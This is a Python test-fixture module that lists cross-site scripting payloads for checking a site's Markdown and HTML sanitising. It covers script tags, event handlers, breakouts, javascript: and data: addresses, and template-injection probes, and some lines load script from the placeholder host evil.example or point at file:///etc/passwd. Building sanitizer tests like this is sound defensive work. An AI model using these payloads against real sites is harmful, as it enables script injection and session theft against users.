"""Texts that would run a script if a page took a part of them for markup or for an address.

They are of the kinds that the tests of markdown-it and OWASP's cheat sheet on the evasion of XSS
filters have, written for this site. `XSS_PATTERNS` names files with further ones, one on a line.
"""

import os
from pathlib import Path

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:,alert(1)>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<script>alert(1)",
    "<script\x0b>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Elements that run a script."""

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<IMG SRC=x OnErRoR\n=\nalert(1)>",
    "<img srcset=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a onmouseover=alert(1)>x</a>",
    "<p onclick=alert(1)>x</p>",
    "<x onclick=alert(1)>x",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<xss contenteditable autofocus onfocus=alert(1)>",
    "<b onmouseover\x00=alert(1)>x</b>",
    "<object data=x onerror=alert(1)>",
)
"""Attributes that run a script."""

BREAKOUTS = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "&quot; onmouseover=&quot;alert(1)",
    'x" srcdoc="<script>alert(1)</script>',
    '\\";alert(1)//',
    "\\';alert(1)//",
    "';alert(1)//\\';alert(1)//\";alert(1)//--></script>",
    "\u2028alert(1)\u2029",
    '{"@type":"x"}</script><script>alert(1)</script>',
    "<!--<script>",
    "{{7*7}}{% debug %}{{ ''.__class__ }}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/"
        "+/[*/[]/+alert(1)//'>"
    ),
)
"""Ends of the attribute, the string, the comment or the element in which the text stands."""

ELEMENTS = (
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=//evil.example <",
    "<embed src=javascript:alert(1)>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<frameset onload=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    '<curtain-slot key="k"></curtain-slot>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a href=javascript&colon;alert(1)>x</a>",
)
"""Elements that load, post or navigate, and those that parsers read in different ways."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#74;avascript:alert(1)",
    "&#x26;#74;avascript:alert(1)",
    "\\&#74;avascript:alert(1)",
    "java%0ascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/x",
    '//evil.example/"onmouseover="alert(1)',
    'https://evil.example/"><script>alert(1)</script>',
    "https://evil.example/'onmouseover='alert(1)",
    "javascript:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "ｊavascript:alert(1)",
)
"""Addresses that are no address of a page."""

_AROUND = (
    "[a link]({})",
    "[a link](<{}>)",
    "![a picture]({})",
    '[a link](/about/ "{}")',
    "<{}>",
    "[a reference][r{number}]\n\n[r{number}]: {}",
)

MARKDOWN = (
    *(
        each.replace("{number}", str(number)).replace("{}", address)
        for number, address in enumerate(ADDRESSES)
        for each in _AROUND
    ),
    '```js" onmouseover=alert(1) x="\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    '```js&#32;custom" onclick="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '![x" onerror="alert(1)](x)',
    '[x](x "y\\" onclick=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](x)",
    "[x](x 'onclick=alert(1)')",
    "*<svg onload=alert(1)>*",
    "> <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | d |",
    "- <script>\n  alert(1)\n  </script>",
    "### <img src=x onerror=alert(1)> {onclick=alert(1)}",
    "A note[^<b>].\n\n[^<b>]: <script>alert(1)</script>",
    '>!<script>alert(1)</script>!<{instead="<img src=x onerror=alert(1)>"}',
    ">![x](javascript:alert(1))!<",
    "::: spoiler <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n:::",
    '::: spoiler "onmouseover="alert(1)\n\n[x](javascript:alert(1))\n\n:::',
)
"""Texts in Markdown around such addresses and elements."""


def _further() -> tuple[str, ...]:
    names = os.environ.get("XSS_PATTERNS", "").split()
    lines = (line for name in names for line in Path(name).read_text().split("\n"))
    return tuple(line for line in lines if line.strip())


PLAIN = (*SCRIPTS, *HANDLERS, *BREAKOUTS, *ELEMENTS, *ADDRESSES, *_further())
EVERY = (*PLAIN, *MARKDOWN)
